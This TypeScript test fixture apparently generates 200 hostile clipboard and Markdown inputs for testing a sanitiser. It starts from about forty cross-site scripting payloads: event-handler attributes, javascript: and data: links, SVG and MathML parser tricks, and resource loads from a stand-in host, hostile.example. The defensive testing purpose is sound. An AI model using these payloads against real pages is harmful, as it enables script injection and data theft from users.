/** Documents that a stranger would send to have a script run by the one who opens them. */

/** What each would run. */
const RUN = 'window.ran=1';
/** Where each would ask for something. */
export const HOSTILE_HOST = 'hostile.example';
const FROM = `https://${HOSTILE_HOST}/x`;

const ELEMENTS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<script src="${FROM}.js"></script>`,
  `<img src="x" onerror="${RUN}">`,
  `<img src=x onerror=${RUN} <b>`,
  `<img srcset="${FROM} 2x" onload="${RUN}">`,
  `<picture><source srcset="${FROM}"><img src="${FROM}" onload="${RUN}"></picture>`,
  `<svg onload="${RUN}"><circle r="9"/></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><style><img src=x onerror="${RUN}"></style></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName="x" dur="1s"/></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y="20">press</text></a></svg>`,
  `<svg><use href="${FROM}#a"/></svg>`,
  `<svg><foreignObject><iframe onload="${RUN}"></iframe></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  `<math href="javascript:${RUN}">press</math>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<iframe src="${FROM}"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<object data="${FROM}" type="text/html"></object>`,
  `<embed src="${FROM}">`,
  `<a href="javascript:${RUN}">press</a>`,
  `<a href="java&#10;script:${RUN}">press</a>`,
  `<a href=" &#1;JaVaScRiPt:${RUN}">press</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">press</a>`,
  `<a href="vbscript:${RUN}">press</a>`,
  `<form action="javascript:${RUN}"><button formaction="javascript:${RUN}">press</button></form>`,
  `<input autofocus onfocus="${RUN}">`,
  `<details open ontoggle="${RUN}"><summary>more</summary></details>`,
  `<video src="${FROM}.mp4" onerror="${RUN}" autoplay></video>`,
  `<audio><source src="${FROM}.mp3" onerror="${RUN}"></audio>`,
  `<body onload="${RUN}">`,
  `<style>@import "${FROM}.css"; * { background: url(${FROM}.png) }</style>`,
  `<div style="background: url(${FROM}.png)" onmouseover="${RUN}">words</div>`,
  `<link rel="stylesheet" href="${FROM}.css"><link rel="preload" as="image" href="${FROM}.png">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<base href="javascript:${RUN}//"><a href="x">press</a>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<template><img src=x onerror="${RUN}"></template><xmp><img src=x onerror="${RUN}"></xmp>`,
  `<table background="${FROM}.png"><td background="${FROM}.png" onclick="${RUN}">cell</td></table>`,
];

const addressOf = (element: string): string =>
  /(?:href|src|action|data)="([^"]+)"/
    .exec(element)?.[1]
    ?.replaceAll('&#10;', '\n')
    .replaceAll('&#1;', '\u0001') ?? `javascript:${RUN}`;

/** How such an element comes in: on the clipboard of another program, of this one, or as Markdown. */
export type HostileText = { html: string } | { markdown: string };

/** Two hundred of them. */
export const HOSTILE_TEXTS: readonly HostileText[] = ELEMENTS.flatMap((element): HostileText[] => [
  { html: `<p>Before</p>${element}<p>After</p>` },
  { html: `<ul><li>Before ${element}</li></ul><table><tr><td>${element}</td></tr></table>` },
  {
    html: `<div data-pm-slice="0 0 []"><pre data-html="htmlBlock">${element.replaceAll('<', '&lt;')}</pre><figure data-image><img data-source="${addressOf(element).replaceAll('"', '&quot;')}">${element}</figure></div>`,
  },
  { markdown: `# Before\n\n${element}\n\nWords ${element} after\n` },
  {
    markdown: `# Before\n\n[press](<${addressOf(element).replaceAll('\n', ' ')}>) ![see](${addressOf(element).replaceAll(/\s/g, '%0A')})\n\n<${addressOf(element)}>\n`,
  },
]);
